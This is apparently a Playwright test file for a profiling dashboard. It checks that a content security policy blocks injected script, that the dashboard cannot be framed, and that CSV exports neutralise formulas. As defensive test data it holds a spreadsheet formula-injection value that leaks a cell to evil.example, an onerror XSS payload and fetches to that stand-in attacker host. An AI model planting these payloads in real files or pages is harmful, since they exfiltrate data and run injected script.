"""Every page works under the content security policy, and what people download runs nothing."""

import csv
import io
import re
import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from playwright.sync_api import ConsoleMessage, Page, expect

from app.pages import VIEWS
from bench.pages import dashboard
from profiledb.report.catalog import LAUNCHES
from profiledb.report.library import Library
from tests.conftest import SAMPLES, ingest_files

pytestmark = pytest.mark.browser
NAMES = ("transformer_training", "attention", "energy", "tasks", "kernels")
SHOWS = {"attention": "attention", "timer_check": "energy", "energy": "energy", "cpu_gpu": "tasks", "scaling": "ddp_1"}
"""The report on which a page has most to show; the others show the training."""

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
AT_REST = """() => {
  const app = document.querySelector('[data-testid="stApp"]');
  return app && app.getAttribute('data-test-script-state') === 'notRunning'
    && !document.querySelector('[data-testid="stSkeleton"]')
    && document.querySelectorAll('[data-testid="stHeading"]').length > 0;
}"""
COUNT = """() => {
  window.violations = [];
  document.addEventListener('securitypolicyviolation', e => {
    window.violations.push(e.violatedDirective + ' ' + e.blockedURI);
  });
}"""


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder with a report for every page; in one of them a kernel has the name of a formula."""
    folder, named = tmp_path_factory.mktemp("policy"), tmp_path_factory.mktemp("named") / "transformer_training.sqlite"
    shutil.copy(SAMPLES / named.name, named)
    files = [
        path
        for path in SAMPLES.iterdir()
        if path.name.partition(".")[0] in NAMES and path.suffix in (".sqlite", ".ncu-rep", ".csv", ".json")
    ]
    with closing(sqlite3.connect(named)) as db, db:
        top = "SELECT shortName FROM CUPTI_ACTIVITY_KIND_KERNEL GROUP BY 1 ORDER BY sum(end - start) DESC LIMIT 1"
        name = db.execute(top).fetchone()[0]
        db.execute("UPDATE StringIds SET value = ? WHERE id = ?", (FORMULA, name))
    files = [named if path.name == named.name else path for path in files]
    ingest_files(folder, [*files, *SAMPLES.glob("ddp/ddp_1.*"), *SAMPLES.glob("ddp/ddp_strong_2_*")])
    return folder


@pytest.fixture(scope="module")
def address(data: Path) -> Iterator[str]:
    with dashboard({"WARPDECK_DATA": str(data), "WARPDECK_SAMPLES": "off", "WARPDECK_WORKER": "off"}) as running:
        yield running


def report(data: Path, view: str) -> str:
    launches = any(one.url == view and one.subject == LAUNCHES for one in VIEWS)
    name = "kernels.ncu-rep" if launches else f"{SHOWS.get(view, 'transformer_training')}.sqlite"
    return Library(data / "library").find(name).id


@pytest.mark.parametrize("view", ["", *(one.url for one in VIEWS)])
def test_a_page_works_under_the_policy(page: Page, address: str, data: Path, view: str) -> None:
    said: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            said.append(message.text)

    page.on("console", note)
    page.on("pageerror", lambda error: said.append(str(error)))
    page.add_init_script(f"({COUNT})()")
    other = f"&other={report(data, 'energy')}" if view == "compare" else ""
    page.goto(f"{address}/{view}?report={report(data, view)}{other}" if view else address)
    page.wait_for_function(AT_REST)
    expect(page.get_by_test_id("stException")).to_have_count(0)
    expect(page.get_by_text("Something went wrong")).to_have_count(0)
    drawn = page.locator(
        '[data-testid="stDataFrame"] canvas, .js-plotly-plot .main-svg, [data-testid="stTable"], canvas.plot'
    )
    if view == "findings":
        page.get_by_text(re.compile(r"^Evidence \(\d+\)$")).first.click()
    expect(drawn.first).to_be_attached()
    expect(page.get_by_test_id("stLogo").or_(page.get_by_test_id("stSidebarLogo")).first).to_be_attached()
    fonts = page.evaluate("document.fonts.ready.then(() => [...document.fonts].map(font => font.status))")
    assert "error" not in fonts
    pictures = page.evaluate(
        "[...document.images].filter(one => one.complete && !one.naturalWidth).map(one => one.src)"
    )
    assert pictures == []
    assert page.evaluate("getComputedStyle(document.querySelector('.stApp')).fontVariantNumeric") == "tabular-nums"
    assert page.evaluate("window.violations") == []
    assert said == []


def test_the_policy_stops_what_a_page_must_not_do(page: Page, address: str) -> None:
    page.add_init_script(f"({COUNT})()")
    page.goto(address)
    page.wait_for_function(AT_REST)
    page.evaluate("""() => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = 1';
      document.body.append(script);
      const image = new Image(); image.src = 'http://evil.example/x.png';
      const link = document.createElement('div'); link.innerHTML = '<img src=x onerror="window.ran = 2">';
      document.body.append(link);
      fetch('http://evil.example/').catch(() => 0);
    }""")
    page.wait_for_function("window.violations.length >= 4")
    assert page.evaluate("window.ran") is None
    directives = {one.split("-src")[0] for one in page.evaluate("window.violations")}
    assert directives >= {"script", "img", "connect"}


def test_no_page_of_elsewhere_frames_the_dashboard(page: Page, address: str) -> None:
    page.route("http://elsewhere.example/", lambda route: route.fulfill(body=f'<iframe src="{address}"></iframe>'))
    page.goto("http://elsewhere.example/")
    frame = page.frames[1]
    frame.wait_for_load_state()
    assert frame.locator("#root").count() == 0


def test_a_download_holds_no_formula(page: Page, address: str, data: Path) -> None:
    page.goto(f"{address}/kernels?report={report(data, 'kernels')}")
    table = page.get_by_test_id("stDataFrame").first
    expect(page.locator('[role="gridcell"]', has_text="=HYPERLINK").first).to_be_attached()
    with page.expect_download() as started:
        page.get_by_role("button", name="CSV").first.click()
    content = started.value.path().read_bytes()
    assert b"\"'=HYPERLINK(" in content
    rows = list(csv.reader(io.StringIO(content.decode(), newline="")))
    row = next(row for row in rows if any(cell.startswith(f"'{FORMULA}") for cell in row))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@", "\t"))]
    numbers = {name: value for name, value in zip(rows[0], row, strict=True) if name.endswith("_ns")}
    assert all(float(value) >= 0 for value in numbers.values())
    table.hover()
    expect(page.get_by_role("button", name="Search").first).to_be_visible()
    expect(page.locator('[aria-label="Download as CSV"]').first).to_be_attached()
    for button in page.locator('[aria-label="Download as CSV"]').all():
        expect(button).not_to_be_visible()
